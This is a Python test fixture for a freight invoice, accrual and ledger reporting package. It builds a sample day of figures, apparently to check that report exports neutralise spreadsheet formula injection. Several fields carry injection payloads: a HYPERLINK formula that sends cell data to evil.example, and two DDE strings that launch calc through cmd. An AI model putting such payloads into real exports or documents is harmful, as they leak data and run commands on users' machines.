"""A small day in figures, with amounts that tie by hand, and strangers' text that would like to be a formula."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

from freightsync.reports.figures import (
    AccrualAccuracy,
    AccrualOpen,
    AccrualRollForward,
    CarrierInvoice,
    ControlTotal,
    CustomerKpi,
    DeliveredNotBilled,
    Dispute,
    Figures,
    InvoiceException,
    LedgerBalance,
    LedgerDrift,
    LedgerTieOut,
    MatchLine,
    OpenAdvice,
    Posting,
    Quarantined,
    SettlementKpi,
    TrialBalanceLine,
)

AT = datetime(2026, 3, 4, 18, 30, tzinfo=UTC)
ON = date(2026, 3, 4)
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def money(text: str) -> Decimal:
    return Decimal(text)


def posting(kind: str, debit: str, credit: str, amount: str, shipment: str, charge: str, cause: str) -> Posting:
    return Posting(
        posted_at=AT,
        document_type=kind,
        reference=f"FS-{shipment}-{charge}",
        partner_number="JE000017",
        outcome="accepted",
        effect_key=f"accrual|{shipment}|{charge}",
        cause=cause,
        debit_account=debit,
        credit_account=credit,
        amount=money(amount),
        currency="USD",
        shipment_id=shipment,
        charge_code=charge,
        scac="NRDF",
        rule_id="accrual.at_delivery",
        rule_version="1",
        reason="delivered 2026-03-04",
        correlation_id="019c-1",
    )


def bill(number: str, billed: str, verdict: str, paid: str, disputed: str, waiting: str) -> CarrierInvoice:
    return CarrierInvoice(
        carrier_invoice_id="NRDF:7",
        scac="NRDF",
        invoice_number=number,
        correction="",
        invoice_on=ON,
        currency="USD",
        billed_amount=money(billed),
        paid_amount=money(paid),
        disputed_amount=money(disputed),
        rejected_amount=money("0.00"),
        waiting_amount=money(waiting),
        verdict=verdict,
        reason="billed 4.00 above 100.00; 5 % or 2.00 allows 5.00",
        dispute_mode="hold",
        document_name="210_0004.edi",
        document_id=12,
        position="segment 31 byte 1204",
    )


def line(number: str, shipment: str, charge: str, expected: str | None, invoiced: str, invoice: str) -> MatchLine:
    over = None if expected is None else money(invoiced) - money(expected)
    return MatchLine(
        carrier_invoice_id="NRDF:7",
        scac="NRDF",
        invoice_number=number,
        correction="",
        invoice_on=ON,
        shipment_id=shipment,
        charge_code=charge,
        currency="USD",
        matched_by="shipment_id",
        expected_amount=None if expected is None else money(expected),
        invoiced_amount=money(invoiced),
        variance_amount=over,
        allowed_amount=money("5.00"),
        paid_amount=money(invoiced) if invoice == "in_tolerance" else money("0.00"),
        disputed_amount=money("0.00") if invoice == "in_tolerance" or over is None else over,
        rejected_amount=money("0.00"),
        waiting_amount=money("0.00") if invoice == "in_tolerance" or expected is None else money(expected),
        verdict="in_tolerance" if over else "exact",
        invoice_verdict=invoice,
        rule_id="tolerance.default",
        rule_version="1",
        reason="billed 4.00 above 100.00; 5 % or 2.00 allows 5.00",
        document_name="210_0004.edi",
        document_id=12,
        position="segment 31 byte 1204",
    )


def figures(**changed: object) -> Figures:
    """Planned 100.00 and 50.00; billed 104.00 in tolerance; 50.00 still open; one invoice of 75.00 in exception.

    Books: 2150 credit 150.00 debit 100.00, 6100 debit 254.00 credit 100.00, 2100 credit 104.00, 1200/4000 300.00.
    """
    given: dict[str, object] = {
        "as_of": AT,
        "business_on": ON,
        "company": "Alder & Finch Foods",
        "roll_forward": [
            AccrualRollForward(
                "2150",
                "LINEHAUL",
                "NRDF",
                "USD",
                money("0.00"),
                money("150.00"),
                money("100.00"),
                money("0.00"),
                money("50.00"),
            )
        ],
        "accruals": [
            AccrualOpen(
                "SH1",
                "LINEHAUL",
                "NRDF",
                "2150",
                "USD",
                money("100.00"),
                money("100.00"),
                money("0.00"),
                money("0.00"),
                AT,
                "SO1",
            ),
            AccrualOpen(
                "SH2",
                "LINEHAUL",
                "NRDF",
                "2150",
                "USD",
                money("50.00"),
                money("0.00"),
                money("0.00"),
                money("50.00"),
                AT,
                "SO2, SO3",
            ),
        ],
        "invoices": [
            bill("INV-1", "104.00", "in_tolerance", "104.00", "0.00", "0.00"),
            bill("INV-2", "75.00", "out_of_tolerance", "0.00", "25.00", "50.00"),
        ],
        "matches": [
            line("INV-1", "SH1", "LINEHAUL", "100.00", "104.00", "in_tolerance"),
            line("INV-2", "SH2", "LINEHAUL", "50.00", "75.00", "out_of_tolerance"),
        ],
        "exceptions": [
            InvoiceException(
                carrier_invoice_id="NRDF:8",
                scac="NRDF",
                invoice_number="INV-2",
                correction="",
                invoice_on=ON,
                net_amount=money("75.00"),
                paid_amount=money("0.00"),
                open_amount=money("75.00"),
                currency="USD",
                verdict="out_of_tolerance",
                reason="billed 25.00 above 50.00; 3 % allows 1.50",
                keys_tried="shipment_id SH2",
                candidates="SH2",
                rule_id="tolerance.nrdf_linehaul",
                rule_version="2",
                document_name="@SUM(1+1)*cmd|' /C calc'!A0",
                document_id=12,
                position="segment 77 byte 3100",
            )
        ],
        "not_billed": [
            DeliveredNotBilled(
                "SH2",
                "SO2",
                "C-2",
                HOSTILE,
                "NRDF",
                "pod_received",
                AT,
                AT,
                "pod_signature_missing",
                money("120.50"),
                "USD",
            )
        ],
        "ledger": [
            LedgerBalance("1200", "USD", money("300.00"), money("0.00")),
            LedgerBalance("2100", "USD", money("0.00"), money("104.00")),
            LedgerBalance("2150", "USD", money("100.00"), money("150.00")),
            LedgerBalance("4000", "USD", money("0.00"), money("300.00")),
            LedgerBalance("6100", "USD", money("254.00"), money("100.00")),
        ],
        "postings": [
            posting("journal", "6100", "2150", "100.00", "SH1", "LINEHAUL", "delivery|SH1"),
            posting("journal", "6100", "2150", "50.00", "SH2", "LINEHAUL", "delivery|SH2"),
            posting("journal", "2150", "6100", "100.00", "SH1", "LINEHAUL", "invoice|7|SH1|LINEHAUL"),
            posting("supplier_invoice", "6100", "2100", "104.00", "SH1", "LINEHAUL", "invoice|7|SH1|LINEHAUL"),
            posting("customer_invoice", "1200", "4000", "300.00", "SH1", "goods", "pod|SO1"),
        ],
        "control_totals": [
            ControlTotal("erp.customer", None, 1, 20, 20, 0, 0, None, None, None, None, 0),
            ControlTotal(
                "carrier.invoice_x12",
                "USD",
                2,
                4,
                2,
                1,
                1,
                money("293.00"),
                money("179.00"),
                money("10.00"),
                money("104.00"),
                0,
            ),
        ],
        "quarantine": [
            Quarantined(
                1,
                "carrier.invoice_x12",
                "NRDF",
                "+1-cmd|'/c calc'!A1",
                ["unknown_charge_code"],
                ["Charge code `ZZZ` is not in NRDF's map: add it, then release."],
                False,
                money("10.00"),
                "USD",
                "210_0004.edi",
                12,
                "segment 90",
                AT,
                None,
                None,
            )
        ],
        "trial_balance": [
            TrialBalanceLine("1200", "USD", money("300.00"), money("0.00")),
            TrialBalanceLine("2100", "USD", money("0.00"), money("104.00")),
            TrialBalanceLine("2150", "USD", money("100.00"), money("150.00")),
            TrialBalanceLine("4000", "USD", money("0.00"), money("300.00")),
            TrialBalanceLine("6100", "USD", money("254.00"), money("100.00")),
        ],
        "disputes": [
            Dispute(
                carrier_invoice_id="NRDF:8",
                scac="NRDF",
                invoice_number="INV-2",
                currency="USD",
                dispute_mode="hold",
                reason_code="overcharge",
                state="open",
                invoiced_amount=money("75.00"),
                disputed_amount=money("25.00"),
                claimed_amount=money("0.00"),
                claim_settled_amount=money("0.00"),
                claim_open_amount=money("0.00"),
                opened_at=AT,
                age_days=3,
                next_step="contest to the carrier",
                next_deadline_at=AT,
                is_overdue=True,
                reason="SH2 LINEHAUL: over by 25.00, only 1.50 allowed",
            )
        ],
        "kpis": [
            SettlementKpi(
                scac="NRDF",
                currency="USD",
                bills=2,
                billed_amount=money("179.00"),
                matched_bills=2,
                first_pass_bills=1,
                exception_bills=1,
                unmatched_bills=0,
                duplicate_bills=0,
                duplicate_amount=money("0.00"),
                tolerance_amount=money("4.00"),
                accessorial_charges=0,
                accessorial_exceptions=0,
                manual_touches=0,
                decided_bills=0,
                decided_days=money("0.00"),
                payable_bills=1,
                payable_days=2,
                disputes=1,
                open_disputes=1,
                open_dispute_days=3,
                disputed_amount=money("25.00"),
                claimed_amount=money("0.00"),
                recovered_amount=money("0.00"),
                accrued_amount=money("100.00"),
                invoiced_amount=money("104.00"),
                missed_amount=money("4.00"),
            )
        ],
        "customer_kpis": [
            CustomerKpi(
                customer_id="C-1",
                currency="USD",
                invoices=1,
                billed_amount=money("300.00"),
                credited_amount=money("0.00"),
                collected_amount=money("100.00"),
                open_amount=money("200.00"),
                month_on=date(2026, 3, 1),
                month_sales_amount=money("300.00"),
                month_open_amount=money("200.00"),
                days_in_month=30,
                disputes=1,
                open_disputes=1,
                open_dispute_days=5,
                disputed_amount=money("20.00"),
            )
        ],
        "accuracy": [
            AccrualAccuracy(
                "2026-03",
                "NRDF",
                "60601",
                "10001",
                "LINEHAUL",
                "USD",
                2,
                1,
                money("150.00"),
                money("50.00"),
                money("100.00"),
                money("104.00"),
                money("4.00"),
            )
        ],
        "advices": [
            OpenAdvice(
                partner="nrdf",
                set_id="824",
                control_number=7,
                invoice_number="INV-9",
                state="unacknowledged",
                sent_at=AT,
                answered_at=None,
                age_days=2,
                reason="no 997 of nrdf speaks of it",
            )
        ],
        "tie_out": [
            LedgerTieOut(
                "2026-03",
                "2150",
                "USD",
                money("-50.00"),
                money("-40.00"),
                money("10.00"),
                money("10.00"),
                money("0.00"),
                1,
                "undecided",
            )
        ],
        "drift": [
            LedgerDrift(
                document="erp:JE000099",
                period="2026-03",
                reason="manual_journal",
                state="open",
                document_type="journal",
                entry_number="JE000099",
                posted_on=ON,
                currency="USD",
                amount=money("10.00"),
                words="somebody posted 10.00 in the ERP",
                what_to_do="adopt it or have it reversed",
            )
        ],
    }
    return Figures(**{**given, **changed})  # type: ignore[arg-type]
